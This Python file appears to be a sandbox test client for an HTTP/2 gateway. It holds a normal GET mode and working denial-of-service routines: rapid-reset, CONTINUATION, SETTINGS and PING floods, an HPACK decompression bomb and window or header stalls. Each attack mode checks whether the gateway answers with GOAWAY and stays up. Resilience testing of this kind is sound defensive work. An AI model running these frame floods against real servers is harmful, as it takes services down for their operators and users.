# SPDX-License-Identifier: MIT
"""An HTTP/2 client run inside the sandbox (python3-h2, hpack): well-behaved
requests on one connection, or raw frames as an attacker sends them.

  h2client.py get HOST PORT PATH...     one connection, every PATH as a
                                        stream at once; prints JSON lines
  h2client.py ATTACK HOST PORT          rapid-reset, continuation,
                                        settings-flood, ping-flood,
                                        hpack-bomb, stall, slow-head; prints what
                                        came back
The credential header is "authorization: Bearer $API_TOKEN"."""
import json
import os
import socket
import ssl
import struct
import sys
import time

import h2.config
import h2.connection
import h2.events
import hpack

AUTH = "Bearer " + os.environ.get("API_TOKEN", "")


def connect(host, port):
    ctx = ssl.create_default_context()
    # H2_ONLY=1: offer h2 alone, as gRPC clients do
    ctx.set_alpn_protocols(["h2"] if os.environ.get("H2_ONLY") else ["h2", "http/1.1"])
    s = socket.create_connection((host, port), timeout=20)
    t = ctx.wrap_socket(s, server_hostname=host)
    return t


def req_headers(host, port, path):
    return [(":method", "GET"), (":scheme", "https"),
            (":authority", "%s:%d" % (host, port)), (":path", path),
            ("authorization", AUTH)]


def get(host, port, paths):
    t = connect(host, port)
    print(json.dumps({"alpn": t.selected_alpn_protocol()}), flush=True)
    c = h2.connection.H2Connection(h2.config.H2Configuration(
        client_side=True, header_encoding="utf-8",
        validate_outbound_headers=False))   # what a client may send
    c.initiate_connection()
    res = {}
    for spec in paths:
        # PATH|name=value|...: fields added, or a pseudo-header replaced;
        # $API_TOKEN in a value is the placeholder
        p, *extra = spec.split("|")
        hd = req_headers(host, port, p)
        for e in extra:
            n, v = e.split("=", 1)
            v = v.replace("$API_TOKEN", os.environ.get("API_TOKEN", ""))
            if v == "-":                        # removed
                hd = [(k, x) for k, x in hd if k != n]
                continue
            hd = [(k, v if k == n else x) for k, x in hd]
            if n not in dict(hd):
                hd.append((n, v))
        sid = c.get_next_available_stream_id()
        c.send_headers(sid, hd, end_stream=True)
        res[sid] = {"path": spec, "headers": [], "body": "", "trailers": []}
    t.sendall(c.data_to_send())
    left = set(res)
    while left:
        data = t.recv(65536)
        if not data:
            break
        for ev in c.receive_data(data):
            if isinstance(ev, h2.events.ResponseReceived):
                res[ev.stream_id]["headers"] = ev.headers
            elif isinstance(ev, h2.events.DataReceived):
                res[ev.stream_id]["body"] += ev.data.decode("latin-1")
                c.acknowledge_received_data(ev.flow_controlled_length, ev.stream_id)
            elif isinstance(ev, h2.events.TrailersReceived):
                res[ev.stream_id]["trailers"] = ev.headers
            elif isinstance(ev, h2.events.StreamEnded):
                left.discard(ev.stream_id)
            elif isinstance(ev, h2.events.StreamReset):
                res[ev.stream_id]["reset"] = ev.error_code
                left.discard(ev.stream_id)
        t.sendall(c.data_to_send())
    for sid in sorted(res):
        print(json.dumps(res[sid]), flush=True)
    t.close()


def frame(ftype, flags, sid, payload=b""):
    return struct.pack(">I", len(payload))[1:] + bytes([ftype, flags]) + \
        struct.pack(">I", sid) + payload


PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + frame(4, 0, 0)


def read_until_goaway(t, limit=30):
    """Read frames until GOAWAY or close; return GOAWAY's error code, or
    'closed'."""
    buf = b""
    t.settimeout(limit)
    try:
        while True:
            data = t.recv(65536)
            if not data:
                return "closed"
            buf += data
            while len(buf) >= 9:
                n = int.from_bytes(buf[:3], "big")
                if len(buf) < 9 + n:
                    break
                ftype, payload = buf[3], buf[9:9 + n]
                buf = buf[9 + n:]
                if ftype == 7:
                    return struct.unpack(">I", payload[4:8])[0]
    except (ConnectionError, ssl.SSLError, OSError):
        return "closed"


def closed_by_peer(t, limit=10):
    """After GOAWAY: does the gateway end the connection itself?"""
    t.settimeout(limit)
    try:
        while t.recv(65536):
            pass
        return True
    except socket.timeout:
        return False
    except (ConnectionError, ssl.SSLError, OSError):
        return True


def attack(kind, host, port):
    t = connect(host, port)
    print(json.dumps({"alpn": t.selected_alpn_protocol()}), flush=True)
    enc = hpack.Encoder()
    out = [PREFACE]
    if kind == "rapid-reset":
        for i in range(2000):
            sid = 1 + 2 * i
            out.append(frame(1, 0x4, sid, enc.encode(req_headers(host, port, "/headers"))))
            out.append(frame(3, 0, sid, struct.pack(">I", 8)))
    elif kind == "continuation":
        block = enc.encode(req_headers(host, port, "/headers"))
        out.append(frame(1, 0, 1, block))       # no END_HEADERS
        for i in range(500):
            out.append(frame(9, 0, 1, b""))
    elif kind == "settings-flood":
        for i in range(5000):
            out.append(frame(4, 0, 0, struct.pack(">HI", 3, 100)))
    elif kind == "ping-flood":
        for i in range(5000):
            out.append(frame(6, 0, 0, struct.pack(">Q", i)))
    try:
        t.sendall(b"".join(out))
    except OSError:
        pass
    print(json.dumps({"goaway": read_until_goaway(t),
                      "closed": closed_by_peer(t)}), flush=True)
    t.close()


def hpack_bomb(host, port):
    """One 4000-byte field into the decoder's table, then a block naming it
    1000 times (4 MB decoded from 1 KB): that stream is refused, the
    connection goes on and a normal request on it succeeds."""
    t = connect(host, port)
    enc = hpack.Encoder()
    base = enc.encode(req_headers(host, port, "/headers?bomb"))
    # literal with incremental indexing, new name: 0x40, name, value
    big = b"\x40" + bytes([7]) + b"x-bomb1" + b"\x7f" + hpack_int(4000 - 127) + b"a" * 4000
    refs = bytes([0x80 | 62]) * 1000
    blocks = [base + big + refs]
    t.sendall(PREFACE + frame(1, 0x5, 1, blocks[0][:16000]))
    c = h2.connection.H2Connection(h2.config.H2Configuration(
        client_side=True, header_encoding="utf-8"))
    # the rest through h2 on the same connection: its own encoder state
    # must start where ours left the peer's table, so a fresh stream uses
    # only literal fields (never indexed) via raw frames too
    plain = b"".join(hpack_literal(n, v) for n, v in req_headers(host, port, "/headers?after"))
    t.sendall(frame(1, 0x5, 3, plain))
    statuses = {}
    buf = b""
    dec = hpack.Decoder()
    dec.max_allowed_table_size = 65536
    t.settimeout(20)
    while len(statuses) < 2:
        data = t.recv(65536)
        if not data:
            break
        buf += data
        while len(buf) >= 9:
            n = int.from_bytes(buf[:3], "big")
            if len(buf) < 9 + n:
                break
            ftype, flags, sid = buf[3], buf[4], int.from_bytes(buf[5:9], "big") & 0x7fffffff
            payload = buf[9:9 + n]
            buf = buf[9 + n:]
            if ftype == 1:
                for k, v in dec.decode(payload):
                    k = k.decode() if isinstance(k, bytes) else k
                    v = v.decode() if isinstance(v, bytes) else v
                    if k == ":status":
                        statuses[sid] = v
            elif ftype == 3:
                statuses[sid] = "reset"
            elif ftype == 7:
                statuses[0] = "goaway"
                break
            elif ftype == 4 and not flags & 1:
                t.sendall(frame(4, 1, 0))
    print(json.dumps({"statuses": {str(k): v for k, v in statuses.items()}}), flush=True)
    del c
    t.close()


def stall(host, port, head=False):
    """A window that never opens: SETTINGS_INITIAL_WINDOW_SIZE 0, a large
    response asked for, PINGs but never a WINDOW_UPDATE; or (@head) a
    header block that never ends (HEADERS without END_HEADERS).  Prints
    how long the gateway kept the connection."""
    t = connect(host, port)
    enc = hpack.Encoder()
    t0 = time.time()
    t.sendall(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" +
              frame(4, 0, 0, struct.pack(">HI", 4, 0)) +
              frame(1, 0x1 if head else 0x5, 1,
                    enc.encode(req_headers(host, port, "/bytes/300000"))))
    t.settimeout(0.5)
    got = b""
    while time.time() - t0 < 60:
        try:
            data = t.recv(65536)
            if not data:
                break
            got += data
        except socket.timeout:
            t.sendall(frame(6, 0, 0, b"12345678"))
        except (ConnectionError, ssl.SSLError, OSError):
            break
    print(json.dumps({"stall_s": round(time.time() - t0, 1),
                      "bytes": len(got)}), flush=True)


def hpack_int(v):
    out = b""
    while v >= 128:
        out += bytes([(v & 127) | 128])
        v >>= 7
    return out + bytes([v])


def hpack_literal(name, value):
    """A literal field, never indexed, new name, no Huffman."""
    n, v = name.encode(), value.encode()
    return b"\x10" + enc_len(n) + n + enc_len(v) + v


def enc_len(b):
    if len(b) < 127:
        return bytes([len(b)])
    return b"\x7f" + hpack_int(len(b) - 127)


if __name__ == "__main__":
    mode, host, port = sys.argv[1], sys.argv[2], int(sys.argv[3])
    if mode == "get":
        get(host, port, sys.argv[4:])
    elif mode == "hpack-bomb":
        hpack_bomb(host, port)
    elif mode == "stall":
        stall(host, port)
    elif mode == "slow-head":
        stall(host, port, head=True)
    else:
        attack(mode, host, port)
    # the gateway is still there for a new connection
    if mode != "get":
        time.sleep(0.2)
        get(host, port, ["/headers?after-" + mode])
